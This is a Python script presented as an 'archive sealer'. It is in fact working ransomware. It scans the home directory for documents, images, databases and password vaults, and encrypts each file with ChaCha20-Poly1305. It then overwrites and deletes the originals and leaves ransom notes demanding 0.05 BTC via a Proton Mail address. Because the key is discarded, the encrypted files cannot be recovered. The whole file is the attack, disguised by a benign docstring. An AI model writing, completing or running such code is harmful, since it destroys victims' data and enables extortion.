#!/usr/bin/env python3
"""Archive sealer: seals user documents in place with an authenticated cipher."""

import argparse
import logging
import os
import secrets
from concurrent.futures import ThreadPoolExecutor, as_completed
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

log = logging.getLogger("sealer")

SEALED_SUFFIX = ".sealed"
WANTED = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".sql",
          ".csv", ".odt", ".pptx", ".zip", ".kdbx", ".psd", ".txt"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git"}
NOTE_NAME = "HOW_TO_RESTORE_FILES.txt"
NOTE_BODY = (
    "Your documents have been sealed with ChaCha20-Poly1305.\n"
    "To obtain the unsealing key send 0.05 BTC to the address below and mail\n"
    "your ID {ident} to restore-desk@proton.me\n"
)


def iter_targets(top: str):
    """Depth-first scan using scandir; yields candidate files."""
    stack = [top]
    while stack:
        current = stack.pop()
        try:
            with os.scandir(current) as it:
                for entry in it:
                    if entry.is_dir(follow_symlinks=False):
                        if entry.name not in SKIP_DIRS:
                            stack.append(entry.path)
                    elif entry.is_file(follow_symlinks=False):
                        if os.path.splitext(entry.name)[1].lower() in WANTED:
                            yield entry.path
        except PermissionError:
            continue


class Sealer:
    def __init__(self, key: bytes):
        self.aead = ChaCha20Poly1305(key)

    def seal(self, path: str) -> str:
        with open(path, "rb") as fh:
            plain = fh.read()
        nonce = secrets.token_bytes(12)
        blob = nonce + self.aead.encrypt(nonce, plain, None)
        out = path + SEALED_SUFFIX
        with open(out, "wb") as fh:
            fh.write(blob)
        # scrub the original before unlinking so it cannot be carved back
        size = len(plain)
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * size)
            fh.flush()
            os.fsync(fh.fileno())
        os.truncate(path, 0)
        Path(path).unlink()
        return out


def drop_notes(dirs, ident):
    for d in dirs:
        try:
            Path(d, NOTE_NAME).write_text(NOTE_BODY.format(ident=ident))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=str(Path.home()))
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = ChaCha20Poly1305.generate_key()
    ident = secrets.token_hex(6)
    sealer = Sealer(key)
    touched_dirs = set()

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        futures = {pool.submit(sealer.seal, p): p for p in iter_targets(args.root)}
        for fut in as_completed(futures):
            src = futures[fut]
            try:
                fut.result()
                touched_dirs.add(os.path.dirname(src))
            except OSError as exc:
                log.debug("skip %s: %s", src, exc)

    drop_notes(touched_dirs | {args.root}, ident)
    del key
    log.info("sealed files in %d directories", len(touched_dirs))


if __name__ == "__main__":
    main()
